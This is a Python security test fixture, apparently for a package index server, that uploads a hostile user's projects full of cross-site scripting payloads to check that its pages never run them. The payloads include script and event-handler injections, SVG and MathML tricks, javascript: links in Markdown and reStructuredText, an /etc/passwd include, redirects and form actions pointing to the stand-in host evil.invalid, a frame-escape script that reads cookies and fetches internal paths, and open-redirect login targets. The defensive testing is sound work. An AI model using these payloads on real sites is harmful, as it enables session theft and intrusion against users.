"""What somebody uploads to harm those who look at it. Whatever of it runs calls `alert`, writes `RAN` to the console, or asks
a host of its own; none of that may happen on a page of ours.
"""

from __future__ import annotations

import scene

from nodes import Client, wheel

OWNER, INDEX = "mallory", "mallory/dev"
MARK = "RAN"
RUN = f"console.log('{MARK}');alert('{MARK}')"
HOST = "https://evil.invalid"

# By the notation: what is tried, and a text that has to be left of it for the reader.
HTML = {
    "script": f"<script>{RUN}</script> left",
    "script-src": f"<script src='{HOST}/x.js'></script> left",
    "image-handler": f'<img src="x" onerror="{RUN}"> left',
    "image-outside": f'<img src="{HOST}/x.png" alt="seen"> left',
    "image-data": f'<img src="data:image/svg+xml,<svg onload=&quot;{RUN}&quot;/>"> left',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>x</text></a></svg> left',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text x=20 y=20>x</text></a></svg> left',
    "math": f'left <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript> left',
    "template": f"<template><script>{RUN}</script></template> left",
    "frame": f"<iframe src=\"javascript:{RUN}\"></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe> left",
    "frame-outside": f'<iframe src="{HOST}/"></iframe><object data="{HOST}/"></object><embed src="{HOST}/"> left',
    "link": f'<a href="javascript:{RUN}">go</a> left',
    "link-hidden": f'<a href=" java\tscript&colon;{RUN}">go</a><a href="&#1;javascript:{RUN}">go</a> left',
    "link-data": f'<a href="data:text/html,<script>{RUN}</script>">go</a> left',
    "style": f"<style>@import url({HOST}/x.css); body {{ display: none }}</style> left",
    "style-attribute": f'<div style="position:fixed;inset:0;background:url({HOST}/x)">cover</div> left',
    "sheet": f'<link rel="stylesheet" href="{HOST}/x.css"><link rel="prefetch" href="{HOST}/y"> left',
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/"> left',
    "base": f'<base href="{HOST}/"> left',
    "form": f'<form action="{HOST}/"><input name="password" autofocus onfocus="{RUN}"><button>Sign in</button></form> left',
    "details": f'<details open ontoggle="{RUN}"><summary>more</summary>left</details>',
    "media": f'<video src="{HOST}/v" onerror="{RUN}" autoplay></video><audio src="x" onerror="{RUN}"></audio> left',
    "srcset": f'<picture><source srcset="{HOST}/a.png"><img srcset="{HOST}/b.png 2x" alt="p"></picture> left',
    "ping": f'<a href="/" ping="{HOST}/ping">go</a> left',
    "clobber": '<img name="getElementById" alt=""><form id="find"><input name="body"></form> left',
    "closing": f"</section></main></body></html><script>{RUN}</script> left",
    "comment": f"<!--><script>{RUN}</script>--> left",
    "broken": f"<<script>{RUN}//<</script> <img src=x\nonerror\n=\n{RUN}> left",
}
MARKDOWN = {
    "link": f"[go](javascript:{RUN}) [go](<java\nscript:{RUN}>) [ref] left\n\n[ref]: javascript:{RUN}",
    "image": f"![seen]({HOST}/x.png) ![x](javascript:{RUN}) left",
    "auto": f"<javascript:{RUN}> <data:text/html,x> left",
    "fence": f"``` \" onmouseover=\"{RUN}\nleft\n```",
}
REST = {
    "raw": f".. raw:: html\n\n   <script>{RUN}</script>\n\nleft",
    "role": f".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>{RUN}</script>` left",
    "link": f"`go <javascript:{RUN}>`_ left",
    "image": f".. image:: javascript:{RUN}\n   :target: javascript:{RUN}\n\n.. image:: {HOST}/x.png\n   :alt: seen\n\nleft",
    "include": ".. include:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\nleft",
    "class": f'.. class:: x" onmouseover="{RUN}\n\nleft',
    "meta": f'.. meta::\n   :http-equiv=refresh: 0;url={HOST}/\n\nleft',
}
PLAIN = {"text": f"<script>{RUN}</script><img src=x onerror={RUN}> left"}

WORD = f'"><script>{RUN}</script><img src=x onerror={RUN}>'
METADATA = {
    "summary": f"{WORD} left",
    "author": WORD,
    "author_email": f'x@y.invalid{WORD}',
    "maintainer": WORD,
    "license": WORD,
    "keywords": f"a,{WORD}",
    "platform": WORD,
    "home_page": f"javascript:{RUN}",
    "download_url": f"data:text/html,<script>{RUN}</script>",
    "project_urls": f"Manual, javascript:{RUN}//https://h",
    "classifiers": f"Topic :: {WORD}",
    "requires_python": ">=3",
    "description": "left",
    "description_content_type": "text/markdown",
}

# Documentation may run scripts, shut in: what they try to reach is not theirs.
DOC_SCRIPT = """
const tries = { cookie: () => document.cookie, storage: () => localStorage.length };
if (parent !== window) {
  tries.parent = () => parent.document.title;
  tries.top = () => top.document.body.innerHTML;
  tries.mark = () => { parent.RAN = true; };
  tries.away = () => { top.location.href = "https://evil.invalid/"; };
}
const reached = [];
for (const [name, one] of Object.entries(tries)) { try { one(); reached.push(name); } catch {} }
const asked = ["/", "/+status", "/ops/vault", "/+api"].map((path) =>
  fetch(path, { credentials: "include" }).then(() => reached.push(path), () => {}));
Promise.all(asked).then(() => { document.getElementById("told").textContent = "reached: " + reached.join(" "); });
"""
DOCS = {
    "index.html": "<!doctype html><title>d</title><p id='told'>trying</p><script src='try.js'></script>",
    "try.js": DOC_SCRIPT,
    "a'\"><script>.html": "<p>name</p>",
}


def descriptions() -> dict[str, tuple[str, str]]:
    """Each description with its content type, by a name that a project can have."""
    tables = {
        ("md-html", "text/markdown"): HTML,
        ("md", "text/markdown"): MARKDOWN,
        ("rst-html", "text/x-rst"): HTML,
        ("rst", "text/x-rst"): REST,
        ("plain", "text/plain"): PLAIN,
    }
    return {
        f"{prefix}-{name}": (text, kind) for (prefix, kind), table in tables.items() for name, text in table.items()
    }


def fill(client: Client):
    """Uploads all of it."""
    client.expect(201, "PUT", f"/{OWNER}", {"password": scene.PASSWORD})
    client.login(OWNER, scene.PASSWORD)
    client.expect(200, "PATCH", f"/{OWNER}", {"title": WORD, "description": WORD, "custom_data": WORD})
    client.expect(200, "PUT", f"/{INDEX}", {"type": "stage", "volatile": "True", "bases": "", "title": WORD, "description": WORD})
    for name, (text, kind) in descriptions().items():
        more = {"summary": f"{WORD} {name}", "description": text, "description_content_type": kind}
        scene.uploads(client, INDEX, name, "1", wheel(name, "1"), **more)
    filename, content = wheel("meta", "1")
    scene.uploads(client, INDEX, "meta", "1", (filename, content), **METADATA)
    scene.uploads_docs(client, INDEX, "meta", "1", scene.packed({name: text.encode() for name, text in DOCS.items()}))
    alarm = f"<!doctype html><title>d</title><script>{RUN};new Image().src='{HOST}/x.png';undefined_word()</script>"
    scene.uploads_docs(client, INDEX, "alarm", "1", scene.packed({"index.html": alarm.encode()}))
    result = scene.tox_result(False)
    result["platform"] = result["host"] = WORD
    result["testenvs"] = {WORD: result["testenvs"]["py313"]}
    result["testenvs"][WORD]["test"][0]["output"] = f"\x1b[31m</pre>{WORD}"
    scene.posts_tox_result(client, INDEX, "meta", filename, result)


# Addresses that carry something themselves.
ADDRESSES = (
    "/+search?query=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/+search?query=" + "meta&page=%22%3E%3Cscript%3E",
    "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/mallory/dev/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/mallory/dev/meta/1%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/mallory/dev/meta/1/+d/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/mallory/dev?starts=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
)
# Where the sign-in is told to lead, which is nowhere else.
LEADS = ("javascript:alert(1)", "//evil.invalid/", "/%5Cevil.invalid/", "https://evil.invalid/", "/%09/evil.invalid/", "%20//evil.invalid/")
